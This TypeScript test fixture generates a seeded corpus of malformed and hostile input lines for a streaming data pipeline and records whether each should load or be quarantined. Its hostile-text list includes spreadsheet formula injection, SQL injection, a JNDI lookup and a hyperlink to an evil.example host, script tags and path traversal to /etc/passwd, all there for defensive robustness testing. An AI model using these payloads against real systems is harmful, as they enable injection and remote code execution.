/**
 * A generated hostile corpus for `streamflow run --input`: one line per case, seeded, each with
 * what must become of it. Cases: malformed and truncated JSON, bytes that are not UTF-8, wrong
 * types, missing, extra and null fields, tombstones, huge values, duplicate ids within and across
 * batches, unknown ids, negative and absurd amounts, future and ancient timestamps, CSV-breaking
 * text (quotes, line breaks, delimiters, leading = + - @; NUL and other control characters, which
 * are quarantined as `control_character`), SQL-looking strings, prototype names.
 *
 * A line whose envelope is readable carries a unique Kafka key (`h<n>` or a hostile key ending in
 * it), so the test finds its record wherever it went; other lines must be `invalid_input_line`.
 */
import type { ReasonCode } from '../../lambdas/consumer/reasons.js';
import { CONTROL_CHARACTER } from '../../lambdas/shared/contracts/tables.js';
import { CUSTOMERS, PRODUCTS } from './arbitraries.js';
import { seededRandom } from './seeded.js';

export type Expectation =
  /** Loaded into Bronze with exactly these values (text as received, lone surrogates as U+FFFD). */
  | { readonly fate: 'gold'; readonly topic: 'user_events' | 'transactions'; readonly id: string; readonly fields: Readonly<Record<string, string | null>> }
  /** Quarantined, its first reason one of these. */
  | { readonly fate: 'quarantine'; readonly codes: readonly ReasonCode[] }
  /** A duplicate id: gold when its copies landed in different batches, else quarantined as a duplicate. */
  | { readonly fate: 'duplicate'; readonly topic: 'user_events' | 'transactions'; readonly id: string };

export interface CorpusLine {
  readonly kind: string;
  readonly line: Buffer;
  /** The line's Kafka key; `undefined` for a line whose envelope cannot be read. */
  readonly key?: string;
  readonly expect: Expectation;
}

export interface CorpusOptions {
  readonly seed: number;
  readonly lines: number;
  /** The broker time every line gets (`streamflow run --until`). */
  readonly until: Date;
}

/** Text that breaks naive CSV writers, spreadsheets and SQL builders. */
const HOSTILE_TEXT = [
  '"',
  '""',
  'a "quoted" word',
  'comma, separated, values',
  'line\nbreak',
  'carriage\rreturn',
  'windows\r\nline',
  '\ttab\tseparated\t',
  '=HYPERLINK("http://evil.example","click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  "'; DROP TABLE bronze.raw_user_events; --",
  "1' OR '1'='1",
  'Robert"); DELETE FROM gold.fact_transactions;--',
  '$$ language plpgsql $$',
  '\\N',
  'NULL',
  '  leading and trailing spaces  ',
  ' ',
  'nul\u0000byte',
  'bell\u0007and\u001bescape',
  '\ufeffbyte order mark',
  'line\u2028separator\u2029paragraph',
  'right-to-left \u202eoverride',
  'emoji 🧨🔥 and 𝕦𝕟𝕚𝕔𝕠𝕕𝕖',
  'lone \ud800 surrogate',
  'e\u0301 combining',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  'C:\\Windows\\System32',
  '%s%s%s%n',
] as const;

/** Topic names a careless dictionary lookup trips on, and others with no contract. */
const UNKNOWN_TOPICS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', 'orders', 'user_events_v2', 'USER_EVENTS', '-'] as const;

const WINDOW_MS = 20 * 24 * 60 * 60 * 1000;

/** Text as it reads back after a round trip through UTF-8: each lone surrogate becomes U+FFFD. */
export const wellFormed = (text: string): string => text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');

export const hostileCorpus = ({ seed, lines, until }: CorpusOptions): CorpusLine[] => {
  const random = seededRandom(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const int = (min: number, max: number): number => min + Math.floor(random() * (max - min + 1));
  const hostile = (maxLength: number): string => {
    let text = '';
    for (let parts = int(1, 4); parts > 0; parts--) text += pick(HOSTILE_TEXT);
    return text.slice(0, maxLength) || 'x';
  };
  const time = (): string => new Date(until.getTime() - int(60_000, WINDOW_MS)).toISOString();
  const corpus: CorpusLine[] = [];
  let n = 0;

  const userEvent = (id: string, overrides: Record<string, unknown> = {}): Record<string, unknown> => ({
    event_id: id,
    user_id: pick(CUSTOMERS).user_id,
    session_id: `S-${seed}-${int(1, 500)}`,
    event_type: 'page_view',
    event_ts: time(),
    page_url: `/p/${int(1, 999)}`,
    device_type: pick(['desktop', 'mobile', 'tablet']),
    browser: pick(['chrome', 'safari', 'firefox']),
    operating_system: pick(['windows', 'ios', 'android']),
    referrer: pick(['direct', 'google', 'email']),
    ...overrides,
  });
  const transaction = (id: string, items = int(1, 4)): Record<string, unknown> => {
    const products = Array.from({ length: items }, () => ({ product_id: pick(PRODUCTS).product_id, quantity: int(1, 5), unit_price: int(100, 50_000) / 100 }));
    const subtotalCents = products.reduce((sum, item) => sum + item.quantity * Math.round(item.unit_price * 100), 0);
    const discountCents = int(0, Math.floor(subtotalCents / 10));
    const taxCents = int(0, Math.floor(subtotalCents / 8));
    return {
      transaction_id: id,
      user_id: pick(CUSTOMERS).user_id,
      session_id: `S-${seed}-${int(1, 500)}`,
      event_ts: time(),
      products,
      subtotal: subtotalCents / 100,
      discount: discountCents / 100,
      tax: taxCents / 100,
      total: (subtotalCents - discountCents + taxCents) / 100,
      currency: 'USD',
      payment_method: 'credit_card',
      status: pick(['completed', 'pending', 'failed', 'refunded']),
      shipping_state: pick(['CA', 'NY', 'TX']),
    };
  };
  const envelope = (topic: unknown, key: string | null, value: unknown): Buffer => Buffer.from(JSON.stringify({ topic, key, value }), 'utf8');
  const add = (kind: string, line: Buffer, expect: Expectation, key?: string): void => {
    corpus.push({ kind, line, expect, ...(key === undefined ? {} : { key: wellFormed(key) }) });
  };
  const quarantined = (kind: string, topic: unknown, value: unknown, codes: readonly ReasonCode[], key = `h${n}`): void =>
    add(kind, envelope(topic, key, value), { fate: 'quarantine', codes }, key);
  /** Gold, unless the key or a hostile text field holds a control character no CSV field carries. */
  const goldEvent = (kind: string, event: Record<string, unknown>, key = `h${n}`, fields: Record<string, string | null> = {}): void => {
    const unloadable = [key, ...Object.values(fields)].some((text) => text !== null && CONTROL_CHARACTER.test(text));
    const expectation: Expectation = unloadable
      ? { fate: 'quarantine', codes: ['control_character'] }
      : { fate: 'gold', topic: 'user_events', id: String(event.event_id), fields: { kafka_key: wellFormed(key), ...fields } };
    add(kind, envelope('user_events', key, event), expectation, key);
  };

  /** Each case adds one line (a duplicate case adds its pair). */
  const cases: readonly (() => void)[] = [
    () => goldEvent('valid user event', userEvent(`EV-${seed}-${n}`)),
    () => {
      const page = hostile(2048);
      goldEvent('CSV/SQL-hostile page_url', userEvent(`EV-${seed}-${n}`, { page_url: page }), undefined, { page_url: wellFormed(page) });
    },
    () => {
      const query = hostile(256);
      goldEvent('CSV/SQL-hostile search_query', userEvent(`EV-${seed}-${n}`, { event_type: 'search', search_query: query }), undefined, { search_query: wellFormed(query) });
    },
    () => goldEvent('hostile Kafka key', userEvent(`EV-${seed}-${n}`), `${hostile(200)}#h${n}`),
    () => goldEvent('extra and prototype-named fields', { ...userEvent(`EV-${seed}-${n}`), extra: 'x', nested: { deep: [1, { a: null }] }, constructor: 'c', ['__proto__']: { polluted: true } }),
    () => {
      const id = `TX-${seed}-${n}`;
      add('valid transaction', envelope('transactions', `h${n}`, transaction(id)), { fate: 'gold', topic: 'transactions', id, fields: { kafka_key: `h${n}` } }, `h${n}`);
    },
    () => {
      const id = `TX-${seed}-${n}`;
      add('transaction with 100 items', envelope('transactions', `h${n}`, transaction(id, 100)), { fate: 'gold', topic: 'transactions', id, fields: { kafka_key: `h${n}` } }, `h${n}`);
    },
    () =>
      goldEvent('timestamp with an offset and nanoseconds', userEvent(`EV-${seed}-${n}`, { event_ts: '2025-06-15T09:30:00.123456789+14:00' }), undefined, {
        event_ts: '2025-06-14T19:30:00.123Z',
      }),
    () => {
      const text = JSON.stringify(userEvent(`EV-${seed}-${n}`));
      quarantined('truncated JSON value', 'user_events', text.slice(0, int(1, text.length - 2)), ['malformed_json']);
    },
    () => add('truncated envelope', envelope('user_events', `h${n}`, userEvent(`EV-${seed}-${n}`)).subarray(0, int(5, 60)), { fate: 'quarantine', codes: ['invalid_input_line'] }),
    () => add('bytes that are not UTF-8', Buffer.concat([Buffer.from('{"topic":"user_events","value":"'), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x80]), Buffer.from('"}')]), { fate: 'quarantine', codes: ['invalid_input_line'] }),
    () => add('envelope that is not an object', Buffer.from(pick(['null', '[1,2]', '42', '"text"', 'true'])), { fate: 'quarantine', codes: ['invalid_input_line'] }),
    () => add('envelope without a value', Buffer.from(JSON.stringify({ topic: 'user_events', key: `h${n}` })), { fate: 'quarantine', codes: ['invalid_input_line'] }),
    () => add('illegal topic name', envelope(pick(['../x', 'a b', 't'.repeat(250), '', 7, null]), `h${n}`, {}), { fate: 'quarantine', codes: ['invalid_input_line'] }),
    () => add('value nested 100,000 deep', Buffer.from(`{"topic":"user_events","key":"h${n}","value":${'['.repeat(100_000)}${']'.repeat(100_000)}}`), { fate: 'quarantine', codes: ['invalid_input_line'] }),
    () => quarantined('topic without a contract', pick(UNKNOWN_TOPICS), userEvent(`EV-${seed}-${n}`), ['unknown_topic']),
    () => quarantined('tombstone', 'user_events', null, ['tombstone']),
    () => quarantined('value that is not an object', 'transactions', pick(['null', '[]', '42', '"x"', `${'['.repeat(50_000)}${']'.repeat(50_000)}`]), ['not_an_object']),
    () => {
      const event = userEvent(`EV-${seed}-${n}`);
      delete event[pick(['event_id', 'user_id', 'session_id', 'event_type', 'event_ts', 'page_url', 'device_type'])];
      quarantined('missing field', 'user_events', event, ['missing_field']);
    },
    () => {
      const [field, value] = pick([
        ['event_id', 12345],
        ['event_ts', 1_718_000_000],
        ['page_url', { url: '/' }],
        ['device_type', true],
        ['user_id', ['USR-00001']],
      ] as const);
      quarantined('wrong type', 'user_events', userEvent(`EV-${seed}-${n}`, { [field]: value }), ['invalid_type', 'invalid_value']);
    },
    () => quarantined('required field null', 'user_events', userEvent(`EV-${seed}-${n}`, { [pick(['event_id', 'event_ts', 'page_url'])]: null }), ['invalid_type']),
    () => {
      const txn = transaction(`TX-${seed}-${n}`);
      const [field, value] = pick([
        ['products', 'none'],
        ['total', '12.00'],
        ['subtotal', null],
      ] as const);
      quarantined('transaction with a wrong type', 'transactions', { ...txn, [field]: value }, ['invalid_type']);
    },
    () => quarantined('huge page_url', 'user_events', userEvent(`EV-${seed}-${n}`, { page_url: `/${'x'.repeat(int(2049, 100_000))}` }), ['invalid_value']),
    () => quarantined('id too long or SQL-looking', 'user_events', userEvent(pick(['x'.repeat(65), "1; DROP TABLE t", "e' OR 1=1 --", '__proto__'])), ['invalid_value']),
    () => quarantined('10,001 items', 'transactions', { ...transaction(`TX-${seed}-${n}`), products: Array.from({ length: 10_001 }, () => ({ product_id: PRODUCTS[0]!.product_id, quantity: 1, unit_price: 1 })) }, ['invalid_value']),
    () => quarantined('unknown user id', 'user_events', userEvent(`EV-${seed}-${n}`, { user_id: `USR-9${int(1000, 9999)}` }), ['unknown_user_id']),
    () => {
      const txn = transaction(`TX-${seed}-${n}`, 1);
      quarantined('unknown product id', 'transactions', { ...txn, products: [{ ...(txn.products as object[])[0]!, product_id: 'PRD-999999' }] }, ['unknown_product_id']);
    },
    () => {
      const [field, value] = pick([
        ['total', -5],
        ['total', 1e12],
        ['discount', -0.01],
        ['tax', 0.001],
        ['subtotal', 1e308],
      ] as const);
      quarantined('negative or absurd amount', 'transactions', { ...transaction(`TX-${seed}-${n}`), [field]: value }, ['invalid_value']);
    },
    () => quarantined('amount that overflows to Infinity', 'transactions', `${JSON.stringify(transaction(`TX-${seed}-${n}`)).slice(0, -1)},"total":1e400}`, ['invalid_value', 'invalid_type']),
    () => quarantined('future timestamp', 'user_events', userEvent(`EV-${seed}-${n}`, { event_ts: pick(['2031-01-01T00:00:00Z', '9999-12-31T23:59:59-14:00']) }), ['future_timestamp']),
    () => quarantined('ancient timestamp', 'user_events', userEvent(`EV-${seed}-${n}`, { event_ts: pick(['1999-12-31T23:59:59Z', '1970-01-01T00:00:00Z', '0001-01-01T00:00:00Z']) }), ['ancient_timestamp']),
    () => quarantined('not a timestamp', 'user_events', userEvent(`EV-${seed}-${n}`, { event_ts: pick(['2025-13-45T99:99:99Z', '2025-06-01', '2025-06-01T10:00:00', 'yesterday', '']) }), ['invalid_value']),
    () => {
      // The same event twice, consecutively: the same batch (quarantined copy) or two batches (deduped in Silver).
      const id = `EV-${seed}-${n}`;
      const event = userEvent(id);
      for (const copy of ['a', 'b']) add('duplicate id, same content', envelope('user_events', `h${n}${copy}`, event), { fate: 'duplicate', topic: 'user_events', id }, `h${n}${copy}`);
    },
    () => {
      // A duplicate id with other content, far from its first copy: across batches.
      const id = `EV-${seed}-dup`;
      add('duplicate id across the corpus', envelope('user_events', `h${n}`, userEvent(id)), { fate: 'duplicate', topic: 'user_events', id }, `h${n}`);
    },
  ];

  while (corpus.length < lines) {
    pick(cases)();
    n++;
  }
  return corpus;
};

/**
 * Lines of several megabytes that still fit the 6 MB invocation cap: a Kafka key and a quarantined
 * value. A line past the cap goes to on-failure without payload, as in Lambda (test/e2e/cli-replay-brokers).
 */
export const hugeCorpusLines = (until: Date): CorpusLine[] => {
  const event = (id: string) => ({
    event_id: id,
    user_id: CUSTOMERS[0]!.user_id,
    session_id: 'S-huge',
    event_type: 'page_view',
    event_ts: new Date(until.getTime() - 3_600_000).toISOString(),
    page_url: '/',
    device_type: 'mobile',
    browser: 'chrome',
    operating_system: 'ios',
    referrer: 'direct',
  });
  const key = `${'K'.repeat(3_000_000)}#huge`;
  return [
    {
      kind: '3 MB Kafka key on a valid event',
      line: Buffer.from(JSON.stringify({ topic: 'user_events', key, value: event('EV-huge-key') })),
      key,
      expect: { fate: 'gold', topic: 'user_events', id: 'EV-huge-key', fields: { kafka_key: key } },
    },
    {
      kind: '3 MB malformed value',
      line: Buffer.from(JSON.stringify({ topic: 'user_events', key: 'huge-value', value: `{"event_id":"${'v'.repeat(3_000_000)}` })),
      key: 'huge-value',
      expect: { fate: 'quarantine', codes: ['malformed_json'] },
    },
  ];
};
